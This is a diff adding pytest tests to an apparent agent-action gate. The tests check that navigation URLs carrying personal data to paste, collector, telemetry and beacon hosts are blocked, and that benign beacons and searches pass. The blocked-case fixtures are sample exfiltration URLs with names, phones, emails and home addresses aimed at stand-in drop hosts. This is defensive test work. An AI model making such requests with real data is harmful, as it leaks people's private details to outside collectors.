@@ -184,3 +184,42 @@ def test_people_listed_counts_named_entries_only():
     assert people_listed("Our offices: 100 Main Street, Boston and 200 Oak Avenue, Denver") == 0
     assert named_whereabouts("Tom Poe lives at 99 Elm Avenue") is not None
     assert named_whereabouts("Tom Poe lives in Dayton") is None
+
+
+# -- URLs that drop several people's records, or one person's, where data hides -----------------------------
+
+
+def nav(url: str):
+    return GATE.assess(action_from_dict({"type": "navigate", "url": url}))
+
+
+@pytest.mark.parametrize("url", [
+    "https://paste.notes-drop.example/api/new?title=list&text=Ann%20555-0101%3BRaj%20555-0177%3BMo%20555-0123",
+    "https://collect.stats-hub.example/c?u=jane.roe%40mail.example&addr=12+Oak+Street+Springfield",
+    "https://telemetry.app-metrics.example/t?email=jane.roe%40mail.example&phone=%2B14155550100",
+    "https://beacon.adnet.example/b?mail=tom.poe%40mail.example&home=99+Elm+Avenue+Dayton",
+])
+def test_records_or_one_persons_details_to_a_drop_block(url):
+    got = nav(url)
+    assert got.decision is Decision.BLOCK, (url, got.rules)
+
+
+@pytest.mark.parametrize("url", [
+    "https://maps.example.com/search?q=555-0101",
+    "https://collect.stats-hub.example/c?page=home&ref=news",
+    "https://track.carrier.example/status?tracking=1Z999AA10123456784",
+    "https://telemetry.app-metrics.example/t?event=page_view&screen=1280x720&lang=en",
+])
+def test_beacons_without_personal_data_and_searches_pass(url):
+    got = nav(url)
+    assert got.decision is Decision.ALLOW, (url, got.rules)
+
+
+def test_collector_named_reads_the_first_label_only():
+    from gate.cues import cue_book
+    from gate.dataout import collector_named
+
+    assert collector_named("collect.stats-hub.example", cue_book())
+    assert collector_named("track2.adnet.example", cue_book())
+    assert not collector_named("shop.collect-stamps.example", cue_book())
+    assert not collector_named("tracksuit.example", cue_book())
